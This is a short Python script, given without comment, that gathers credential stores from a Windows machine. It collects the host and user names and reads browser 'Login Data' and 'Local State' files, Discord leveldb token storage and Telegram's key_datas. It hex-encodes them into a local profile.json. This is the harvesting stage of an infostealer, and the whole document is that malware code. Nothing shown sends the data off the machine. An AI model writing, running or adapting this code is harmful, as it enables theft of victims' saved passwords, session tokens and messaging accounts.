import os, json, glob, platform, getpass

def grab(pattern):
    out = {}
    for p in glob.glob(os.path.expandvars(pattern), recursive=True):
        try:
            with open(p, "rb") as f:
                out[p] = f.read().hex()
        except OSError:
            pass
    return out

profile = {
    "host": platform.node(),
    "user": getpass.getuser(),
    "browser": grab(r"%LOCALAPPDATA%\*\*\User Data\Default\Login Data"),
    "state": grab(r"%LOCALAPPDATA%\*\*\User Data\Local State"),
    "discord": grab(r"%APPDATA%\discord\Local Storage\leveldb\*.ldb"),
    "telegram": grab(r"%APPDATA%\Telegram Desktop\tdata\key_datas"),
}
json.dump(profile, open("profile.json", "w"))
